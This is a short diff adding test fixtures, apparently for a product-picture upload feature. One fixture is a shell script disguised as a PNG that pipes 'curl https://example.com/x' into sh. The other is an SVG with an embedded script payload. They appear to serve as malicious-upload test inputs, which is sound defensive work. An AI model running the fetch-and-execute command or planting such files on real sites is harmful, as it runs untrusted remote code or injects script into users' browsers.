@@ -76,3 +76,8 @@ def add_pictures(app, sku: str, *uploads: bytes, alt: dict[int, str] | None = No
         update_product(sku, data, None, new_pictures=[prepare(u) for u in uploads],
                        alt_texts=alt)
         db.session.remove()
+
+
+SCRIPT_PNG = b"#!/bin/sh\ncurl https://example.com/x | sh # a script saved as picture.png\n"
+SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+       b'<script>alert(1)</script><rect width="10" height="10"/></svg>')
